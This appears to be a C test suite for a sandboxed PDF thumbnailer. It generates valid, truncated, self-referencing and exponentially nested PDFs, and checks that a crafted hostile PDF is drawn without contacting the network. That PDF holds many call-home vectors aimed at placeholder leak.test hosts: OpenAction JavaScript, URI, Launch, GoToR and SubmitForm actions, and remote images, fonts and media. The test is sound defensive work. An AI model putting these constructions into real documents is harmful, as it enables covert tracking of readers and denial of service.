/* SPDX-License-Identifier: GPL-3.0-or-later */

/* The first page of good, broken and hostile PDFs. */

#include "config.h"

#include "patience.h"
#include "ph-thumbnail.h"

#include <glib/gstdio.h>
#include <string.h>

#define PROGRAM PKGLIBEXECDIR "/posthorn-pdf-thumbnailer"
#define PATIENCE (PATIENCE_SECONDS * 1000)

#define A4 "[0 0 595 842]"

/* ---- PDFs ----------------------------------------------------------------------------------- */

static void
append_object (GString *pdf, GString *table, const char *text)
{
  g_string_append_printf (table, "%010u 00000 n \n", (guint) pdf->len);
  g_string_append_printf (pdf, "%u 0 obj\n%s\nendobj\n", (guint) (table->len / 20 - 1), text);
}

/* One page of the size @box, drawn by @drawing. @catalog, @page and @resources: what else stands in these;
 * @objects (nullable): those from 6 on, the end marked by NULL. */
static GBytes *
write_pdf (const char *box, const char *drawing, const char *catalog, const char *page,
           const char *resources, const char *const *objects)
{
  GString *pdf = g_string_new ("%PDF-1.7\n");
  g_autoptr (GString) table = g_string_new ("0000000000 65535 f \n");
  g_autofree char *first = g_strdup_printf ("<</Type/Catalog/Pages 2 0 R%s>>", catalog);
  g_autofree char *third
    = g_strdup_printf ("<</Type/Page/Parent 2 0 R/MediaBox%s/Contents 4 0 R%s"
                       "/Resources<</Font<</F 5 0 R>>%s>>>>", box, page, resources);
  g_autofree char *fourth
    = g_strdup_printf ("<</Length %u>>stream\n%s\nendstream", (guint) strlen (drawing), drawing);
  guint start;

  append_object (pdf, table, first);
  append_object (pdf, table, "<</Type/Pages/Kids[3 0 R]/Count 1>>");
  append_object (pdf, table, third);
  append_object (pdf, table, fourth);
  append_object (pdf, table, "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>");
  for (guint i = 0; objects != NULL && objects[i] != NULL; i++)
    append_object (pdf, table, objects[i]);

  start = (guint) pdf->len;
  g_string_append_printf (pdf, "xref\n0 %u\n%strailer<</Size %u/Root 1 0 R>>\nstartxref\n%u\n%%%%EOF\n",
                          (guint) (table->len / 20), table->str, (guint) (table->len / 20), start);
  return g_string_free_to_bytes (pdf);
}

static GBytes *
write_plain (const char *box, const char *drawing)
{
  return write_pdf (box, drawing, "", "", "", NULL);
}

static GdkTexture *
run (GBytes *content)
{
  return ph_thumbnail_run (PROGRAM, content, PATIENCE);
}

/* How many pixels of @texture are of the color @rgb, or near it. */
static guint
count (GdkTexture *texture, guint32 rgb)
{
  gsize n = (gsize) gdk_texture_get_width (texture) * (gsize) gdk_texture_get_height (texture);
  g_autofree guint32 *pixels = g_new (guint32, n);
  guint found = 0;

  gdk_texture_download (texture, (guchar *) pixels, 4 * (gsize) gdk_texture_get_width (texture));
  for (gsize i = 0; i < n; i++)
    {
      gboolean matches = TRUE;

      for (guint shift = 0; shift < 24; shift += 8)
        matches &= ABS ((int) (pixels[i] >> shift & 0xff) - (int) (rgb >> shift & 0xff)) < 50;
      found += matches;
    }

  return found;
}

/* ---- Good ones ------------------------------------------------------------------------------ */

static void
test_good (void)
{
  g_autoptr (GBytes) pdf = write_plain (A4, "1 0 0 rg 0 0 595 421 re f");
  g_autoptr (GdkTexture) small = run (pdf);

  g_assert_nonnull (small);
  g_assert_cmpint (gdk_texture_get_width (small), ==, 90);
  g_assert_cmpint (gdk_texture_get_height (small), ==, 128);
  g_assert_cmpuint (count (small, 0xff0000), >, 90 * 60);
  g_assert_cmpuint (count (small, 0xffffff), >, 90 * 60);
}

/* In a font that does not lie in it: the one thing that is read from the system. */
static void
test_text (void)
{
  g_autoptr (GBytes) pdf = write_plain (A4, "BT /F 300 Tf 50 300 Td (HH) Tj ET");
  g_autoptr (GdkTexture) small = run (pdf);

  g_assert_nonnull (small);
  g_assert_cmpuint (count (small, 0x000000), >, 300);
}

static void
test_sizes (void)
{
  static const struct
  {
    const char *box;
    int width, height; /* 0: no picture */
  } rows[] = {
    { "[0 0 842 595]", 128, 90 }, { "[0 0 14400 10]", 128, 1 }, { "[0 0 1000000000 1000000000]", 128, 128 },
    { "[0 0 1e300 1e-300]", 0, 0 }, { "[0 0 0.5 0.5]", 0, 0 }, { "[595 842 0 0]", 90, 128 },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      g_autoptr (GBytes) pdf = write_plain (rows[i].box, "");
      g_autoptr (GdkTexture) small = run (pdf);

      if (rows[i].width == 0 && small == NULL)
        continue;
      g_assert_nonnull (small);
      /* Where it is nonsense Poppler takes a page of its own. */
      if (rows[i].width != 0)
        {
          g_assert_cmpint (gdk_texture_get_width (small), ==, rows[i].width);
          g_assert_cmpint (gdk_texture_get_height (small), ==, rows[i].height);
        }
    }
}

/* ---- Others --------------------------------------------------------------------------------- */

static void
test_no_pdf (void)
{
  static const char *const texts[] = { "", "%PDF-", "%PDF-1.7\n%%EOF\n", "milk, bread", " %PDF-1.7" };

  for (gsize i = 0; i < G_N_ELEMENTS (texts); i++)
    {
      g_autoptr (GBytes) content = g_bytes_new_static (texts[i], strlen (texts[i]));

      g_assert_null (run (content));
    }
}

static void
test_truncated (void)
{
  g_autoptr (GBytes) pdf = write_plain (A4, "1 0 0 rg 0 0 595 421 re f");
  gsize len = g_bytes_get_size (pdf);

  for (gsize n = 0; n < len; n += len / 12)
    {
      g_autoptr (GBytes) head = g_bytes_new_from_bytes (pdf, 0, n);
      g_autoptr (GdkTexture) small = run (head);

      if (small != NULL)
        g_assert_cmpint (gdk_texture_get_height (small), ==, 128);
    }
}

/* Pages that lead back to themselves, drawings that draw themselves. */
static void
test_circles (void)
{
  static const char *const forms[] = {
    "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>/Length 12>>stream\n"
    "/X Do /X Do \nendstream",
    NULL,
  };
  g_autoptr (GBytes) form = write_pdf (A4, "/X Do", "", "", "/XObject<</X 6 0 R>>", forms);
  g_autoptr (GBytes) tree = write_pdf (A4, "", "/Pages 1 0 R/Kids[1 0 R]/Count 1", "/Kids[2 0 R]", "", NULL);
  g_autoptr (GdkTexture) first = run (form);
  g_autoptr (GdkTexture) second = run (tree);

  g_assert_true (first == NULL || gdk_texture_get_height (first) == 128);
  g_assert_true (second == NULL || gdk_texture_get_height (second) <= 128);
}

/* Each form draws the next one ten times: in all that would take years. It ends after some seconds of work,
 * without a picture. */
static void
test_endless (void)
{
  char *forms[13] = { NULL };
  g_autoptr (GBytes) pdf = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (forms) - 1; i++)
    forms[i] = g_strdup_printf (
      "<</Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X %u 0 R>>>>/Length 50>>stream\n"
      "/X Do/X Do/X Do/X Do/X Do/X Do/X Do/X Do/X Do/X Do\nendstream",
      i + 7);
  pdf = write_pdf (A4, "/X Do", "", "", "/XObject<</X 6 0 R>>", (const char *const *) forms);
  g_assert_null (run (pdf));

  for (guint i = 0; i < G_N_ELEMENTS (forms); i++)
    g_free (forms[i]);
}

/* All that a PDF has to ask for something. */
static GBytes *
write_attack (void)
{
  static const char *const objects[] = {
    "<</Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/Length 0"
    "/F<</FS/URL/F(http://image.leak.test/a)>>>>stream\n\nendstream",
    "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Length 0/Ref<</F<</FS/URL/F(https://form.leak.test/a.pdf)>>"
    "/Page 0>>>>stream\n\nendstream",
    "<</Type/Annot/Subtype/Screen/Rect[0 0 99 99]/A<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/CT(video/mp4)"
    "/D<</FS/URL/F(http://film.leak.test/a)>>>>>>>>>>",
    "<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 99 99]/AA<</F<</S/JavaScript/JS(app.launchURL\\("
    "'http://script.leak.test/'\\))>>>>>>",
    "<</Type/Annot/Subtype/Movie/Rect[0 0 99 99]/Movie<</F(http://movie.leak.test/a)/Poster true>>>>",
    "<</Type/Font/Subtype/TrueType/BaseFont/Sea/FontDescriptor<</Type/FontDescriptor/FontName/Sea/Flags 32"
    "/FontFile2<</FS/URL/F(http://font.leak.test/a)>>>>>>",
    NULL,
  };

  return write_pdf (A4, "1 0 0 rg 0 0 595 421 re f /I Do /X Do BT /G 90 Tf 50 600 Td (Hi) Tj ET",
                    "/OpenAction<</S/JavaScript/JS(this.submitForm\\('http://open.leak.test/'\\))"
                    "/Next<</S/URI/URI(http://uri.leak.test/)/Next<</S/Launch/F(http://launch.leak.test/a)"
                    "/Next<</S/GoToR/F<</FS/URL/F(http://goto.leak.test/a.pdf)>>/D[0/Fit]"
                    "/Next<</S/SubmitForm/F<</FS/URL/F(http://submit.leak.test/)>>>>>>>>>>>>"
                    "/URI<</Base(http://base.leak.test/)>>",
                    "/Annots[8 0 R 9 0 R 10 0 R]/AA<</O<</S/URI/URI(http://page.leak.test/)>>>>",
                    "/XObject<</I 6 0 R/X 7 0 R>>/Font<</F 5 0 R/G 11 0 R>>", objects);
}

/* What @words, a program, does on the network while it reads @content. */
static char *
watch (const char *const *words, GBytes *content, gsize *n_answered)
{
  g_autofree char *folder = g_dir_make_tmp ("net-watch-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (folder, "log", NULL);
  g_autoptr (GSubprocessLauncher) launcher
    = g_subprocess_launcher_new (G_SUBPROCESS_FLAGS_STDIN_PIPE | G_SUBPROCESS_FLAGS_STDOUT_PIPE
                                 | G_SUBPROCESS_FLAGS_STDERR_SILENCE);
  g_autoptr (GSubprocess) process = NULL;
  g_autoptr (GBytes) answer = NULL;
  g_autoptr (GError) error = NULL;
  char *log;

  g_subprocess_launcher_setenv (launcher, "NET_WATCH_LOG", path, TRUE);
  g_subprocess_launcher_setenv (launcher, "LD_PRELOAD", NET_WATCH, TRUE);
  process = g_subprocess_launcher_spawnv (launcher, words, &error);
  g_assert_no_error (error);
  g_assert_true (g_subprocess_communicate (process, content, NULL, &answer, NULL, &error));
  g_assert_no_error (error);
  *n_answered = g_bytes_get_size (answer);

  g_assert_true (g_file_get_contents (path, &log, NULL, NULL));
  g_unlink (path);
  g_rmdir (folder);
  return log;
}

/* It is drawn, and nobody is asked; not even where the program could. */
static void
test_leaks (void)
{
  static const char *const unlocked[] = { UNLOCKED, NULL };
  static const char *const asks[] = { "getent", "ahosts", "control.leak.test", NULL };
  g_autoptr (GBytes) pdf = write_attack ();
  g_autoptr (GBytes) nothing = g_bytes_new_static ("", 0);
  g_autoptr (GdkTexture) small = run (pdf);
  g_autofree char *log = NULL;
  g_autofree char *control = NULL;
  gsize len;

  g_assert_nonnull (small);
  g_assert_cmpuint (count (small, 0xff0000), >, 90 * 60);

  log = watch (unlocked, pdf, &len);
  g_assert_cmpuint (len, >, 90 * 128 * 4);
  g_assert_nonnull (strstr (log, " start "));
  g_assert_null (strstr (log, "leak.test"));
  g_assert_null (strstr (log, " connect "));
  g_assert_null (strstr (log, " send "));

  /* The watch sees what a program does. */
  control = watch (asks, nothing, &len);
  g_assert_nonnull (strstr (control, " name control.leak.test"));
}

int
main (int argc, char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/pdf-thumbnailer/good", test_good);
  g_test_add_func ("/pdf-thumbnailer/text", test_text);
  g_test_add_func ("/pdf-thumbnailer/sizes", test_sizes);
  g_test_add_func ("/pdf-thumbnailer/no-pdf", test_no_pdf);
  g_test_add_func ("/pdf-thumbnailer/truncated", test_truncated);
  g_test_add_func ("/pdf-thumbnailer/circles", test_circles);
  g_test_add_func ("/pdf-thumbnailer/endless", test_endless);
  g_test_add_func ("/pdf-thumbnailer/leaks", test_leaks);

  return g_test_run ();
}
